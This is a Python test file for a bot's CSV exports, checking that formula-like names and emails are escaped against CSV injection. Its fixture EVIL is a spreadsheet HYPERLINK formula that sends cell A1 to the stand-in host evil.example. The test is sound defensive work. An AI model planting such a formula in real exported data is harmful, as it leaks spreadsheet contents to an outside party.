"""Every CSV the bot hands out keeps a would-be formula as text (CSV injection, OWASP): a
roster name "=HYPERLINK(...)" runs in the teacher's spreadsheet otherwise."""

from __future__ import annotations

import csv
import io

from bot.cogs.mail.records import AddressState, InviteeStatus
from bot.cogs.mail.views import codes_csv, status_csv
from bot.domain import Language
from bot.safety import spreadsheet_cell

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Kari")'


def _rows(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def test_the_personal_codes_file_keeps_a_formula_name_as_text() -> None:
    text = codes_csv(Language.NB, [(EVIL, "kari@example.no", "K7QX2M9P"), ("-3", "@x", "C")])
    rows = _rows(text, ";")
    assert rows[1] == ["'" + EVIL, "kari@example.no", "K7QX2M9P"]
    assert rows[2] == ["-3", "'@x", "C"]  # a number stays a number


def test_the_cohort_status_file_keeps_a_formula_name_as_text() -> None:
    row = InviteeStatus("+kari@example.no", EVIL, None, 0, AddressState.NONE, False, True)
    rows = _rows(status_csv(Language.EN, [row]), ",")
    assert rows[1][:2] == ["'" + EVIL, "'+kari@example.no"]


def test_plain_cells_are_left_alone() -> None:
    assert [spreadsheet_cell(v) for v in ("Kari", "", "1.5", "-0,5 %")] == [
        "Kari",
        "",
        "1.5",
        "'-0,5 %",
    ]
